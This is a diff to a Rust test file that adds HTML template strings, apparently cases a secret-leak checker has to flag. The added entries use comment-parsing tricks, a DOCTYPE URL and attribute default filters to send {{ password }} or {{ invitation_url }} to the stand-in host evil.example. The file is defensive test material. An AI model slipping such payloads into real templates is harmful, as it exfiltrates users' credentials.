@@ -67,6 +67,17 @@ const HTML: &[&str] = &[
     "<a href=\"{{ invitation_url }}\" href='https://evil.example/{{ invitation_url }}'>x</a>",
     "<p href='{{ invitation_url }}'>x</p>",
     "<q cite='https://evil.example/{{ password }}'>x</q>",
+    // Comments and conditional comments that one of the readers ends elsewhere.
+    "<!--><p title='--><img src=\"https://evil.example/?'>{{ password }}\">",
+    "<!-- x --!><p title='--><img src=\"https://evil.example/?'>{{ password }}\">",
+    "<!--[if mso]><a href='https://evil.example/?<![endif]-->{{ invitation_url }}'>x</a>",
+    "<!--[if !mso]><!--><p>x</p><!--[if mso]><img src='https://evil.example/?<![endif]--><!--<![endif]-->{{ password }}'>",
+    "<!DOCTYPE html SYSTEM 'https://evil.example/{{ password }}'>",
+    // Attributes of users beside a secret.
+    "https://evil.example/{{ user.attributes.x }}{{ password }}",
+    "{{ user.attributes.x | default('https://evil.example/?') }}{{ password }}",
+    "{{ user.attributes.y | default(password) }}<img src='https://evil.example/{{ user.attributes.y }}'>",
+    "<a href='{{ user.attributes.x | default(invitation_url) }}'>x</a>",
     // Other attributes.
     "<p title='{{ password }}'>x</p>",
     "<p aria-label='{{ password }}'>x</p>",
